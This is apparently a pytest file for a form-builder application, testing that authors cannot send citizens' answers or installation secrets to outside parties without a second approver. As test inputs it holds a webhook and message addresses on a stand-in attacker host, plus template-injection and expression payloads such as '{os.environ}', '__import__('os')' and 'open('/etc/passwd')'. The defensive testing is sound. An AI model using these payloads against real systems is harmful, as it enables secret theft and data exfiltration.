"""Threat 33: an author sends answers elsewhere, or the installation's secrets: never alone, and never what is ours."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest
from flask import Flask

from builder import drafting
from builder.app import create_app
from builder.edits import Add, Edit, Set, Several
from definitions.read import check
from runtime import documents, releases
from runtime.db import Database
from runtime.models.base import ORGANISATION
from tests.builder.web.authoring import Desk, now
from tests.factories import document, example_document
from tests.runtime.web.browsing import Browser

PLACE = "/build/missed-bin/publish"
HOOK = {"webhook": {"url": "https://evil.example/hook", "send": ["bin"]}}
LETTER = {"id": "leak", "to": {"address": "mallory@evil.example"}, "subject": "Look", "body": "{property.postcode}"}
NO_EXAMPLES = Set("/examples", [])
WAYS: dict[str, Edit] = {
    "a message to another address": Set("message:not-collected/to", {"address": "mallory@evil.example"}),
    "a new message": Several((Add("/messages", LETTER), Set("transition:done/effects", [{"send": "leak"}]))),
    "a webhook": Set("transition:done/effects", [HOOK]),
    "a message to a role": Set("message:not-collected/to", {"role": "supervisor"}),
    "another question for the applicant's address": Several((
        Add("page:contact/questions", {"id": "other", "type": "email", "label": "Another", "required": False}),
        Set("/applicant/email", "other"),
    )),
    "a partner who is asked": Several((
        Add("/workflow/tasks", {"id": "seen", "label": "Look at it", "in": ["with-crew"],
            "by": {"name": "Mallory", "address": "mallory@evil.example"},
            "ask": [{"id": "said", "type": "text", "label": "What do you say?"}], "due": "5 working days"}),
    )),
}  # fmt: skip


@pytest.fixture
def desk(database: Database) -> Iterator[Desk]:
    site: Flask = create_app(database.settings, database)
    site.testing = True
    return Desk(site, database)


def change(desk: Desk, edit: Edit, by: str = "ines") -> None:
    with desk.database.begin() as session:
        drafting.change(session, ORGANISATION, "missed-bin", edit, base=None, by=desk.people[by], at=now())


def live(desk: Desk) -> int:
    with desk.database.read() as session:
        return documents.published(session, "missed-bin", ORGANISATION).number


def sent(desk: Desk, browser: Browser, **more: str) -> int:
    with desk.database.read() as session:
        revision = str(drafting.open_draft(session, ORGANISATION, "missed-bin").revision)
    return desk.post(browser, PLACE, revision=revision, why="Nothing to see", **more).status


@pytest.mark.parametrize("way", WAYS)
def test_t33_the_author_who_changed_a_target_does_not_publish_it(desk: Desk, way: str) -> None:
    change(desk, Several((NO_EXAMPLES, WAYS[way])))
    browser = desk.sign_in()
    day = {"day-day": "1", "day-month": "1", "day-year": "2099"}
    assert sent(desk, browser, do="publish", when="now") == 403
    assert sent(desk, browser, do="publish", when="later", **day) == 403
    assert sent(desk, browser, do="ask", when="now") == 303
    with desk.database.read() as session:
        (asked,) = releases.open_requests(session, ORGANISATION)
    place = f"/build/missed-bin/request/{asked.id}"
    assert desk.post(browser, f"{place}/approve").status == 403
    assert live(desk) == 1
    di = desk.sign_in("di")
    token = di.get("/staff").form("/sign-out").fields["csrf_token"]
    assert di.client.post(f"{place}/approve", data={"csrf_token": token}).status_code == 404
    assert desk.post(desk.sign_in("tom"), f"{place}/approve").status == 303
    assert live(desk) == 2


def test_t33_what_is_approved_is_what_was_asked_for_and_nothing_after_it(desk: Desk) -> None:
    change(desk, Several((NO_EXAMPLES, Set("message:not-collected/to", {"address": "desk@town.example"}))))
    ines, tom = desk.sign_in(), desk.sign_in("tom")
    assert sent(desk, ines, do="ask", when="now") == 303
    change(desk, Set("message:not-collected/to", {"address": "mallory@evil.example"}))
    with desk.database.read() as session:
        (asked,) = releases.open_requests(session, ORGANISATION)
    desk.post(tom, f"/build/missed-bin/request/{asked.id}/approve")
    with desk.database.read() as session:
        document = documents.published(session, "missed-bin", ORGANISATION).service.document
    assert "desk@town.example" in json.dumps(document)
    assert "mallory@evil.example" not in json.dumps(document)


def test_t33_a_document_sent_as_a_whole_is_no_way_round(desk: Desk) -> None:
    browser = desk.sign_in()
    changed = example_document() | {"examples": []}
    changed["messages"][0]["to"] = {"address": "mallory@evil.example"}
    token = browser.get("/build").form("/sign-out").fields["csrf_token"]
    taken = browser.client.get("/build/missed-bin/document.json").headers["ETag"]
    headers = {"If-Match": taken, "X-CSRFToken": token}
    saved = browser.client.put("/build/missed-bin/document.json", data=json.dumps(changed), headers=headers)
    assert saved.status_code == 200
    assert sent(desk, browser, do="publish", when="now") == 403


SECRETS = [
    "{env.TOWNCLERK_SECRET_KEY}", "{settings.secret_key}", "{config}", "{os.environ}", "${SECRET}", "{secret_key}",
    "{self.__class__}", "{property.__class__}", "{bin!r}", "{0}", "{case.__dict__}", "{installation_key}",
]  # fmt: skip


@pytest.mark.parametrize("name", SECRETS)
def test_t33_a_definition_that_names_a_secret_is_refused(name: str) -> None:
    made: dict[str, Any] = example_document()
    made["messages"][0]["body"] = f"It is {name}."
    made["examples"] = []
    assert [one.pointer for one in check(made) if one.severity == "error"] == ["/messages/0/body"]


@pytest.mark.parametrize("source", ["env.SECRET", "settings.secret_key", "__import__('os')", "open('/etc/passwd')"])
def test_t33_nor_does_an_expression_reach_one(source: str) -> None:
    made = document(values=[{"id": "leak", "type": "text", "value": source}])
    assert [one.pointer for one in check(made) if one.severity == "error"] == ["/values/0/value"]
